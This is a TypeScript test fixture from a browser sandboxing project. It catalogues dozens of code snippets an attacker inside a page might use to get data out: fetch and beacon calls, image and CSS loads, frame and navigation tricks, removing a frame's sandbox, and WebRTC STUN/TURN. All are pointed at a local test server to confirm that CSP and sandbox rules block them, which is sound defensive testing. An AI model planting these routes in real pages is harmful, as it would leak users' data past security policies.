import { alone, type Line, notIn, type Route, routes } from './route.ts';

const dataWorker = "pass.createScriptURL(`data:text/javascript,fetch('${url}')`)";
const blobWorker = `new Worker(pass.createScriptURL(URL.createObjectURL(new Blob([\`fetch('\${url}')\`]))))`;
const image = '`<img src="${url}">`';
const inFrame = (html: string): string => `add('iframe', { srcdoc: pass.createHTML(\`${html}\`) })`;
const rule = (css: string): string =>
  `document.head.append(Object.assign(document.createElement('style'), { textContent: \`${css}\` }))`;
const adopt = (css: string): string =>
  `const sheet = new CSSStyleSheet(); document.adoptedStyleSheets.push(sheet); sheet.replaceSync(\`${css}\`)`;
const peer = (server: string, realm = 'globalThis'): string =>
  `const { RTCPeerConnection, webkitRTCPeerConnection = RTCPeerConnection } = ${realm};
   const peer = new (RTCPeerConnection ?? webkitRTCPeerConnection)({ iceServers: [{ ${server}, username: 'x', credential: 'x' }] });
   peer.createDataChannel(''); peer.createOffer().then((offer) => peer.setLocalDescription(offer))`;

const stun = 'urls: `stun:127.0.0.1:${port}`';

const connections: Record<string, Line> = {
  fetch: `fetch(url)`,
  XMLHttpRequest: `const request = new XMLHttpRequest(); request.open('GET', url); request.send()`,
  WebSocket: `new WebSocket(url.replace('http', 'ws'))`,
  EventSource: `new EventSource(url)`,
  WebTransport: { code: 'new WebTransport(`https://127.0.0.1:${port}/`)', port: 'udp' },
};

/**
 * Ways out of a page, as code an attacker inside it would run. SECURITY.md has the same table; the test
 * compares the two. A line that does not work is found by the control, which has to hear every one of them.
 *
 * Workers from an address are not here: they come only from the page's own origin anyway.
 */
export const attacks: Route[] = [
  ...routes('app', 'closed', "connect-src 'none'", {
    ...connections,
    'fetch, keepalive': `fetch(url, { method: 'POST', body: 'x', keepalive: true })`,
    fetchLater: notIn(['firefox'], `fetchLater(url, { activateAfter: 0 })`),
    sendBeacon: `navigator.sendBeacon(url, 'x')`,
    'fetch of an empty frame': `add('iframe').contentWindow.fetch(url)`,
    'fetch of an empty window': `open('about:blank').fetch(url)`,
    'fetch of a new worker': `new Worker(${dataWorker})`,
    'fetch of a new shared worker': notIn(['chromium'], `new SharedWorker(${dataWorker})`),
    'fetch of the shell': `parent.fetch(url)`,
    'a[ping]': notIn(['firefox'], alone(`click({ href: '#ping', ping: url })`)),
    PaymentRequest: notIn(
      ['firefox'],
      `new PaymentRequest([{ supportedMethods: url }],
      { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
    ),
  }),
  ...routes('app', 'closed', 'worker-src data:', { 'fetch of a new blob: worker': blobWorker }),
  ...routes('app', 'closed', 'img-src data:', {
    'img src': `new Image().src = url`,
    'img srcset': `new Image().srcset = url + ' 1x'`,
    'picture source': `const picture = add('picture'); add('source', { srcset: url }, picture); add('img', {}, picture)`,
    'input type=image': `add('input', { type: 'image', src: url })`,
    'video poster': `add('video', { poster: url })`,
    'SVG image': `add('image', { href: url, width: 9, height: 9 }, add('svg'))`,
    'CSS background, style property': 'add("p").style.background = `url(${url})`',
    'CSS background, inserted rule': 'document.styleSheets[0].insertRule(`html { background: url(${url}) }`)',
    'CSS background, adopted sheet': adopt('body { background: url(${url}) }'),
    'CSS list image': 'add("li").style.listStyle = `url(${url})`',
    'link icon': notIn(['chromium', 'firefox'], `add('link', { rel: 'icon', href: url }, document.head)`),
    'img of a srcdoc frame': inFrame('<img src="${url}">'),
    'img of an empty window': `const { document: other } = open('about:blank');
      other.body.append(Object.assign(other.createElement('img'), { src: url }))`,
  }),
  ...routes('app', 'closed', "style-src 'sha256-…'", {
    'CSS background, style attribute': 'add("p", { style: `background: url(${url})` })',
    'CSS background, style element': rule('main { background: url(${url}) }'),
    'CSS @import': rule('@import "${url}"'),
    'link stylesheet': `add('link', { rel: 'stylesheet', href: url })`,
    'link preload, style': `add('link', { rel: 'preload', as: 'style', href: url })`,
  }),
  ...routes('app', 'closed', "font-src 'none'", {
    '@font-face': adopt('@font-face { font-family: x; src: url(${url}) } body { font-family: x }'),
    FontFace: 'new FontFace("y", `url(${url})`).load()',
  }),
  ...routes('app', 'closed', "script-src 'sha256-…'", {
    'script src': `add('script', { src: trusted })`,
    'script type=module': `add('script', { type: 'module', src: trusted })`,
    'dynamic import': `import(url)`,
    'link modulepreload': `add('link', { rel: 'modulepreload', href: url })`,
    'link preload, script': `add('link', { rel: 'preload', as: 'script', href: url })`,
    'javascript: address': "open(`javascript:void fetch('${url}')`, '_self')",
    AudioWorklet: `new AudioContext().audioWorklet.addModule(url)`,
    'speculation rules': notIn(['chromium', 'firefox'], {
      front: true,
      code: `const rules = { prefetch: [{ urls: [url], eagerness: 'immediate' }] };
      document.head.append(Object.assign(document.createElement('script'),
        { type: 'speculationrules', text: pass.createScript(JSON.stringify(rules)) }))`,
    }),
  }),
  ...routes('app', 'closed', "default-src 'none'", {
    'video src': `add('video', { src: url })`,
    'audio src': `add('audio', { src: url, preload: 'auto' })`,
    'video track': `const video = add('video', { crossorigin: '' });
      add('track', { src: url }, video).track.mode = 'showing'`,
    'link manifest': notIn(
      ['chromium', 'firefox'],
      `add('link', { rel: 'manifest', href: url }, document.head)`,
    ),
    'link prefetch': notIn(['firefox file'], `add('link', { rel: 'prefetch', href: url })`),
  }),
  ...routes('app', 'closed', "frame-src 'none'", {
    'location =': alone(`location = url`),
    'location = data:': alone('location = `data:text/html,<img src="${url}">`'),
    'location = blob:': alone(`location = URL.createObjectURL(new Blob([${image}], { type: 'text/html' }))`),
    'a click': alone(`click({ href: url })`),
    'a click, download': alone(`click({ href: url, download: 'x' })`),
    'meta refresh': alone(`add('meta', { 'http-equiv': 'refresh', content: '0;url=' + url }, document.head)`),
    'document.write of a refresh': alone(
      `document.write(pass.createHTML('<meta http-equiv=refresh content="0;url=' + url + '">')); document.close()`,
    ),
    'navigation.navigate': alone(`navigation.navigate(url)`),
    'iframe src': `add('iframe', { src: url })`,
    'address of a frame': `add('iframe').contentWindow.location = url`,
    'meta refresh of a srcdoc frame': inFrame('<meta http-equiv=refresh content="0;url=${url}">'),
    'img of a data: frame': 'add("iframe", { src: `data:text/html,<img src="${url}">` })',
    'img of a blob: frame': `const html = new Blob([\`<img src="\${url}">\`], { type: 'text/html' });
      add('iframe', { src: URL.createObjectURL(html) })`,
  }),
  ...routes('app', 'closed', "object-src 'none'", {
    object: `add('object', { data: trusted })`,
    embed: `add('embed', { src: trusted })`,
  }),
  ...routes('app', 'closed', "form-action 'none'", {
    'form, GET': alone(`add('form', { action: url }).submit()`),
    'form, POST': alone(`add('form', { action: url, method: 'post' }).submit()`),
    'form, new window': `add('form', { action: url, target: '_blank' }).submit()`,
  }),
  ...routes('worker', 'closed', "connect-src 'none'", connections),
  ...routes('worker', 'closed', "font-src 'none'", { FontFace: 'new FontFace("y", `url(${url})`).load()' }),
  ...routes('worker', 'closed', "script-src 'sha256-…'", {
    importScripts: `importScripts(trusted)`,
    'dynamic import': `import(url)`,
  }),
  // Last: Firefox runs nothing after them in a worker of a file.
  ...routes('worker', 'closed', "connect-src 'none'", {
    'fetch of a nested worker': notIn(['firefox file'], `new Worker(${dataWorker})`),
  }),
  ...routes('worker', 'closed', 'worker-src data:', {
    'fetch of a nested blob: worker': notIn(['firefox file'], blobWorker),
  }),
  ...routes('app', 'closed', 'the sandbox', {
    'location of the shell': alone(`parent.location = url`),
    'location of the shell, replaced': alone(`top.location.replace(url)`),
    'a click, _top': alone(`click({ href: url, target: '_top' })`),
    'a click, _parent': alone(`click({ href: url, target: '_parent' })`),
    'a click, new window': `click({ href: url, target: '_blank' })`,
    'a click, named window': `click({ href: url, target: 'other' })`,
    'form, _top': alone(`add('form', { action: url, target: '_top' }).submit()`),
    'form, _parent': alone(`add('form', { action: url, target: '_parent' }).submit()`),
    'window.open': `open(url)`,
    'window.open, _top': alone(`open(url, '_top')`),
    'image in the shell': `parent.document.body.append(Object.assign(new parent.Image(), { src: url }))`,
    'the frame without its sandbox': alone(`const { frameElement } = window;
      frameElement.removeAttribute('sandbox'); frameElement.removeAttribute('srcdoc'); frameElement.src = url`),
    'WebRTC of an empty frame': notIn(['firefox'], {
      code: peer(stun, "add('iframe').contentWindow"),
      port: 'udp',
    }),
    'WebRTC of an empty window': notIn(['firefox'], { code: peer(stun, "open('about:blank')"), port: 'udp' }),
    'WebRTC of the shell': notIn(['firefox'], { code: peer(stun, 'parent'), port: 'udp' }),
  }),
  ...routes('app', 'closed', 'src/lockdown.ts', {
    'WebRTC, STUN over UDP': notIn(['firefox'], { code: peer(stun), port: 'udp' }),
    'WebRTC, TURN over TCP': notIn(['firefox'], {
      code: peer('urls: `turn:127.0.0.1:${port}?transport=tcp`'),
      port: 'tcp',
    }),
  }),
  ...routes('app', 'open', 'disconnecting', {
    'link preconnect': notIn(['firefox'], {
      code: "add('link', { rel: 'preconnect', href: `http://127.0.0.1:${port}` })",
      port: 'tcp',
    }),
  }),
];
